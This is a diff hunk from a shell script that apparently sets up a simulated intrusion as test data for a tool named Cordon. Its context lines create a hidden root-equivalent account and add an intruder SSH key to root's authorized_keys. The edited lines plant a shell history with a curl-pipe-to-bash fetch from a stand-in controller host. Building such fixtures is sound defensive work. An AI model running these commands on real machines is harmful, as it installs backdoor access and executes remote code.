@@ -60,8 +60,8 @@ useradd -o -u 0 -g 0 -G sudo -M -d /root -s /bin/bash sysupd
 mkdir -p /root/.ssh
 echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyOfTheIntruderForTheTestsOfCordon0000 ops@backup' >>/root/.ssh/authorized_keys
 
-# Histories: what was typed, and what was wiped.
-su deploy -c 'cd; HISTFILE=~/.bash_history bash -i' >/dev/null 2>&1 <<TYPED
+# Histories: what was typed, and what was wiped. Without sudo's terminal, in whose background a shell would stop for ever.
+setsid -w su deploy -c 'cd; HISTFILE=~/.bash_history bash -i' >/dev/null 2>&1 <<TYPED
 curl -s --max-time 1 http://$CONTROLLER/x.sh | bash
 history -w
 TYPED
